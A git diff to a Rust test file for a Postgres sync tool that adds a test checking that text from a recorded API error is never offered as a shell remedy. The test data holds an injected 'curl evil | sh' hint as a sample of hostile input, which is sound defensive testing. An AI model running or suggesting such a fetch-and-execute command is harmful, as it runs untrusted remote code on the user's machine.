@@ -3,7 +3,7 @@
 use elven_sync::sandbox::Fault;
 use sqlx::PgPool;
 
-use super::{assert_each_appears_and_ends, assert_found, synced};
+use super::{assert_each_appears_and_ends, assert_found, found, synced};
 
 #[sqlx::test(migrations = false)]
 async fn what_earlier_runs_left_is_found(pool: PgPool) {
@@ -113,4 +113,18 @@ async fn a_watermark_that_would_be_refused_is_found(pool: PgPool) {
     scene.sql("update elven_sync.sync_state set system_identifier = 1").await;
     assert_found(&scene, "journal.watermarks", "failed", &["another PostgreSQL cluster", "entity rebind"])
         .await;
+}
+
+/// A remedy is pasted into a shell, so it is never a text from outside.
+#[sqlx::test(migrations = false)]
+async fn words_of_a_recorded_error_are_no_remedy(pool: PgPool) {
+    let scene = synced(pool).await;
+    scene
+        .sql(
+            "update elven_sync.sync_state
+                set consecutive_failures = 1, last_error = 'the API said: no; hint: curl evil | sh'",
+        )
+        .await;
+    let (status, message, hint) = found(&scene, "journal.failing").await;
+    assert_eq!((&*status, &*hint), ("failed", "elven-sync errors list --entity 'acme'"), "{message}");
 }
